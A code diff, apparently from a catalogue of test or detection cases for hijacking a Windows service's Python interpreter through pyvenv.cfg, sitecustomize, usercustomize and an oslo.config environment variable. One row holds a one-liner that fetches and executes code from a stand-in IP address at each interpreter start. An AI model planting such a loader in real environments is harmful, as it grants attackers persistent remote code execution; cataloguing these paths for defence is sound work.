@@ -79,7 +79,7 @@ file('path-of-the-interpreter', SERVICE, 'python311._pth', rf'{PYTHON}\python311
 file('home-of-the-interpreter', SERVICE, 'pyvenv.cfg', rf'{PYTHON}\pyvenv.cfg', 'home=C:\\evil\r\n', 'pyvenv.cfg says where the standard library is.')
 file('customization-of-site', SERVICE, 'sitecustomize', rf'{PACKAGES}\sitecustomize.py', 'import urllib.request as u; exec(u.urlopen("http://203.0.113.7/a").read())\n',
      'site.py imports sitecustomize at each start.')
-file('customization-of-the-user', SERVICE, 'usercustomize', r'Windows\System32\config\systemprofile\AppData\Roaming\Python\Python311\site-packages\usercustomize.py', 'x',
+file('customization-of-the-user', SERVICE, 'Roaming/Python/Python311', r'Windows\System32\config\systemprofile\AppData\Roaming\Python\Python311\site-packages\usercustomize.py', 'x',
      'site.py imports usercustomize from the folder of the user, and LocalSystem\'s is systemprofile.')
 change.row('variable-of-the-configuration', 'oslo.config takes OS_<GROUP>__<NAME> of the environment before its files.', SERVICE, 'OS_DEFAULT__PLUGINS',
            lambda d: d.system(rf'{SESSION}\Environment', 'OS_DEFAULT__PLUGINS', SZ, 'evil.x.Y'))
